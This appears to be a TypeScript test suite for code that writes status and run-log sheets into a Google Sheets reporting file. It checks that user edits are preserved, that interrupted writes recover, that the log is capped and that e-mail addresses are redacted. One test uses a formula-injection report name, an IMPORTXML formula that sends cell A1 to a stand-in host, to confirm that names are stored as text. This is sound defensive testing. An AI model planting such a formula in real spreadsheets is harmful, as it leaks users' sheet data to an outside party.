import fc from 'fast-check';
import { type LoggedRun, logColumns, logTable, MOST_RUNS } from '../../../src/reports/logs/run-log-table';
import { type SheetCell, toSheetCell } from '../../../src/table/sheet-cell';
import { VERSION } from '../../../src/version';
import { FakeClock } from '../../fakes/clock';
import { formatTime } from '../../fakes/format-time';
import { EmulatedSheets } from '../../fakes/sheets/emulated-sheets';
import { HOUR, type LogsOrder, loggedRun, logsOf, NOW, savedReport, withRows } from './file';

const STATUS = 'Refresh status';
const LOG = 'Run log';
const RUN = logColumns().findIndex(({ field }) => field === 'run');
const TIME = { timeZone: 'Europe/Berlin', formatTime };

const ORDER = {
  status: [savedReport('r1'), savedReport('r2', { name: 'Retention' })],
  runs: [loggedRun(2), loggedRun(1, { report: 'Retention' })],
} satisfies LogsOrder;

function writtenLogs(order: Partial<LogsOrder> = ORDER) {
  const sheet = new EmulatedSheets();
  const clock = new FakeClock(NOW);
  const write = logsOf(sheet, clock);
  expect(write(order)).toEqual([]);
  const rows = (title: string) => sheet.shown(title).slice(2);
  const column = (title: string, index: number) => rows(title).map((row) => row[index]);
  return { sheet, clock, write, rows, column };
}

/** The rows of the log as a sheet holds them, after these runs are added to `existing` rows. */
function logged(existing: readonly (readonly SheetCell[])[], runs: readonly LoggedRun[]): SheetCell[][] {
  const { columns, rows } = logTable(existing, runs, TIME);
  return rows.map((row) => columns.map(({ type }, index) => toSheetCell(row[index]!, type)));
}

const idsOf = (rows: readonly (readonly SheetCell[])[]) => rows.map((row) => row[RUN]);

describe('the logs of a file', () => {
  it('are two sheets, each with a line above the headers that describes it', () => {
    const { sheet, column } = writtenLogs();
    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG]);
    expect(sheet.shown(STATUS)[0]![0]).toBe('Refresh status · times in Europe/Berlin');
    expect(sheet.shown(LOG)[0]).toEqual([
      'Run log · the last 500 runs, newest first · times in Europe/Berlin',
    ]);
    expect([column(STATUS, 0), column(LOG, 3)]).toEqual([
      ['Report r1', 'Retention'],
      ['Retention', 'Daily revenue'],
    ]);
  });

  it('change no cell when they are written again, and only cells that differ', () => {
    const { sheet, clock, write } = writtenLogs();
    const before = sheet.snapshot();
    for (let nth = 0; nth < 10; nth++) {
      clock.pass(HOUR / 10);
      write(ORDER);
    }
    expect([sheet.batches.length, sheet.snapshot()]).toEqual([2, before]);
    write({ ...ORDER, status: [withRows('r1', 121), ORDER.status[1]!] });
    expect(JSON.stringify(sheet.batches[2]).match(/numberValue|stringValue/g)).toHaveLength(1);
  });

  it('use a sheet that was renamed and moved, make a deleted sheet again, and leave a tab of that title alone', () => {
    const { sheet, write, column } = writtenLogs();
    sheet.tab(STATUS).title = 'How it stands';
    sheet.moveTab(LOG, 0);
    write({ ...ORDER, status: [savedReport('r1', { name: 'Renamed' })] });
    expect(column('How it stands', 0)).toEqual(['Renamed']);
    sheet.removeTab(LOG);
    sheet.addTab(LOG, 7);
    sheet.enter(LOG, 0, 0, 'Marathon');
    write({ ...ORDER, runs: [loggedRun(5)] });
    expect([sheet.shown(LOG), column('Run log 2', RUN)]).toEqual([[['Marathon']], ['run5']]);
  });

  it('keep the columns, rows, order and formulas of the user', () => {
    const { sheet, write, rows } = writtenLogs();
    sheet.enter(LOG, 3, 16, 'asked support');
    sheet.insert(LOG, 'COLUMNS', 4);
    sheet.enter(LOG, 3, 4, 'ticket 12');
    sheet.enter(STATUS, 4, 0, 'Reports of Bo: see the other file');
    sheet.enter(STATUS, 4, 11, '=SUM(L3:L4)');
    write({ status: [savedReport('r0'), ...ORDER.status], runs: [loggedRun(0)] });
    const log = sheet.shown(LOG);
    expect([log[4]![3], log[4]![4], log[4]![17]]).toEqual(['Daily revenue', 'ticket 12', 'asked support']);
    sheet.tab(LOG).edit((rows) => rows.splice(2, 3, ...rows.slice(2, 5).reverse()));
    write({ status: [savedReport('r0'), ...ORDER.status], runs: [loggedRun(-1)] });
    expect(rows(LOG).map((cells) => cells[RUN + 1])).toEqual(['run-1', 'run2', 'run1', 'run0']);
    expect(rows(STATUS).map(([name]) => name)).toEqual([
      'Report r0',
      'Report r1',
      'Retention',
      'Reports of Bo: see the other file',
    ]);
    expect(JSON.stringify(sheet.tab(STATUS).rows[5]!.map(({ formula }) => formula))).toContain('=SUM(L3:L');
  });

  it('keep a row with a remark of the user, with a mark, after its report is deleted', () => {
    const { sheet, write, rows } = writtenLogs();
    sheet.enter(STATUS, 2, 20, 'ask Ann');
    write({ ...ORDER, status: [ORDER.status[1]!] });
    const notes = sheet.tab(STATUS).rows.flatMap((cells) => cells.map(({ note = '' } = {}) => note));
    expect(notes).toContain('No report of this file since 21 Nov 2026.');
    expect([rows(STATUS)[0]![0], rows(STATUS)[0]![20]]).toEqual(['', 'ask Ann']);
  });

  it('contain names as texts, even if they look like formulas', () => {
    const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
    const { sheet, column } = writtenLogs({
      status: [savedReport('r1', { name }), savedReport('__proto__', { name: '+1' })],
      runs: [loggedRun(1, { report: name })],
    });
    expect([column(STATUS, 0), column(LOG, 3)]).toEqual([[name, '+1'], [name]]);
    expect(JSON.stringify(sheet.batches).match(/formulaValue/g)).toHaveLength(1);
  });

  it('are written for one sheet if Google refuses to change the other, and a sentence says which', () => {
    const sheet = new EmulatedSheets();
    sheet.beforeAndAfter = (batch) => {
      if (batch === 0) throw new Error('You are trying to edit a protected cell or object.');
    };
    expect(logsOf(sheet)(ORDER)).toEqual([
      expect.stringMatching(
        /^Refresh status: Google does not let the user of this run change the sheet, because it is protected/,
      ),
    ]);
    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
  });

  it('are not written while another execution has the lock', () => {
    const sheet = new EmulatedSheets();
    expect(logsOf(sheet, new FakeClock(NOW), () => false)(ORDER)).toEqual([]);
    expect([sheet.reads, sheet.batches]).toEqual([[], []]);
  });

  it('are complete after the next update if Google ended an execution before or after any write', () => {
    class Killed extends Error {}
    const values = (sheet: EmulatedSheets) => [STATUS, LOG].map((title) => sheet.shown(title));
    const whole = values(writtenLogs().sheet);
    for (const batch of [0, 1])
      for (const isAfter of [false, true]) {
        const sheet = new EmulatedSheets();
        sheet.beforeAndAfter = (nth, isDone) => {
          if (nth === batch && isDone === isAfter) throw new Killed();
        };
        try {
          logsOf(sheet)(ORDER);
        } catch (error) {
          expect(error).toBeInstanceOf(Killed);
        }
        sheet.beforeAndAfter = () => {};
        logsOf(sheet)(ORDER);
        expect(values(sheet)).toEqual(whole);
      }
  });

  it('show for how many days no hourly check has run, when no code runs any more', () => {
    const sheets = new EmulatedSheets();
    let now = NOW;
    sheets.store.now = () => now;
    const sentence = () => sheets.shown("'Refresh status'!D1:D1")[0]?.[0] ?? '';
    const sentences = (hours: readonly number[]) =>
      hours.map((hour) => {
        now = NOW + hour * HOUR;
        return sentence();
      });
    logsOf(sheets)({ status: [savedReport('r1'), savedReport('r2', { lastChecked: NOW - 30 * HOUR })] });
    const words = (days: number) =>
      `Days without a check: ${days}. The numbers may be old: open Ad Reports ▸ Open.`;
    expect(sentences([0, 23, 25, 46, 71])).toEqual(['', '', words(1), words(2), words(3)]);
    logsOf(sheets)({ status: [savedReport('r1', { nextRun: null })] });
    expect(sentences([900])).toEqual(['']);
  });
});

describe('the run log', () => {
  it('shows the time, the days, the changed rows and the result of a run', () => {
    const run = loggedRun(1, { result: 'failed', sentence: 'The service refused the report key.' });
    const { columns, rows } = logTable([], [run], TIME);
    expect(Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]))).toEqual({
      Started: 46347 + 3 / 24,
      Ended: 46347.12513889,
      Seconds: 12,
      Report: 'Daily revenue',
      How: 'By schedule',
      From: '2026-11-17',
      To: '2026-11-19',
      Calls: 3,
      'Rows inserted': 10,
      'Rows changed': 4,
      'Rows deleted': 0,
      Restated: 6,
      Result: 'Failed',
      Note: 'The service refused the report key.',
      Version: VERSION,
      Run: 'run1',
    });
  });

  it('contains 500 runs: the oldest are removed, and rows of the user do not count', () => {
    const existing = logged(
      [],
      Array.from({ length: MOST_RUNS }, (_, nth) => loggedRun(nth + 2)),
    );
    const note = logColumns().map((_, column) => (column === 3 ? 'Closed October here' : ''));
    existing.splice(1, 0, note);
    const more = logged(existing, [loggedRun(1)]);
    expect([more.length, idsOf(more)[0], more.at(-1)]).toEqual([MOST_RUNS + 1, 'run1', note]);
    expect(idsOf(more)).not.toContain('run501');
  });

  it('contains no e-mail address and no long text', () => {
    const sentence = `ana.b+c@mail.example.com is running this report. ${'x'.repeat(1000)}`;
    const [row] = logged([], [loggedRun(1, { report: 'Revenue (ana@example.com)', sentence })]);
    expect(row![3]).toBe('Revenue (somebody)');
    expect(row![13]).toMatch(/^somebody is running this report\. x+…$/);
    expect(String(row![13]).length).toBeLessThanOrEqual(300);
  });

  it('has the same rows, newest first, if runs are added one by one, all at once or again', () => {
    const ids = fc.uniqueArray(fc.integer({ min: 1, max: 999 }), { maxLength: 20 });
    fc.assert(
      fc.property(ids, fc.nat(20), (hours, cut) => {
        const runs = hours.map((nth) => loggedRun(nth));
        const parts = logged(logged([], runs.slice(0, cut)), runs.slice(cut));
        expect(idsOf(parts)).toEqual([...hours].sort((a, b) => a - b).map((nth) => `run${nth}`));
        expect(parts).toEqual(logged([], runs));
        expect(logged(parts, runs)).toEqual(parts);
      }),
    );
  });
});
